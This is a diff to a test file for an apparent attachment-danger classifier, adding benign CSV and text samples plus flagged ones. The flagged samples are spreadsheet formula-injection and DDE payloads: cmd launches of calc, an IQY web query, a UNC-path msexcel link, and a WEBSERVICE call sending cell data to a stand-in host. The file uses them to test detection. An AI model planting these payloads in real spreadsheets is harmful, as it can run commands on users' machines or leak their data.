@@ -99,6 +99,17 @@ HELD = {
     "a program in an Outlook mail": (
         "a.msg", msg({0x37: "x"}, [storage({0x3707: "a.txt", 0x3701: EXE})]), Danger.EXECUTABLE
     ),
+    "a query that a spreadsheet runs": ("a.iqy", b"WEB\n1\nhttp://a.example", Danger.EXECUTABLE),
+    "a symbolic link sheet": ("a.slk", b"ID;P\nE\n", Danger.MACROS),
+    "a table that starts a program": ("a.csv", b"name,x\nAnn,=cmd|' /C calc'!A0\n", Danger.ACTIVE),
+    "one after a sum": ("a.csv", b"Ann;@SUM(1+1)*cmd|' /C calc'!A0\n", Danger.ACTIVE),
+    "one after a number": ("a.csv", b"-2+3+cmd|' /C calc'!A0\n", Danger.ACTIVE),
+    "one after a plus, in quotes": ("a.csv", b'"Ann","+cmd|\'/C calc,x\'!A0"\n', Danger.ACTIVE),
+    "one by another program": ("a.txt", b"a\t=msexcel|'\\\\x.example\\a.xls'!A1", Danger.ACTIVE),
+    "one by a program nobody knows": ("a.csv", b"a,=SUM(1)+foo|bar!A1\r\n", Danger.ACTIVE),
+    "one in wide letters": ("a.csv", "\ufeffa,=cmd|' /C calc'!A0".encode("utf-16-le"), Danger.ACTIVE),
+    "one that fetches": ("a.csv", b'a,=IF(1,WEBSERVICE("http://x.example/"&A1))', Danger.ACTIVE),
+    "one by the old function": ("a.csv", b'a,=DDE("cmd";"/C calc";"x")', Danger.ACTIVE),
 }  # fmt: skip
 
 PASSED = {
@@ -116,6 +127,14 @@ PASSED = {
     "minutes that quote a mail": ("minutes.txt", b"From: Ann\nSubject: Minutes\n\nWe met on Monday.\n"),
     "an invitation": ("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
     "no name at all": ("", b"text"),
+    "a table of numbers": ("a.csv", b"name,owed\nAnn,-5.20\nBob,-3\n-1,-2\n"),
+    "a table of telephone numbers": (
+        "a.csv",
+        b'Ann,+44 113 496 0000,"please call (after 5)"\nBob,+441134960001,"call(evenings)"\n',
+    ),
+    "a table cut by bars": ("a.txt", b"Ann|-5|ok!A\nBob|- none|Great!|x\n|-|cmd |x!y|\n"),
+    "a table of ordinary sums": ("a.csv", b'n,"=""00123""",=SUM(A1:A3),=A1*2\n'),
+    "a list with dashes": ("a.txt", b"- call the school (0113)\n- the link (see below)\n- @ann wrote!\n"),
 }
 
 
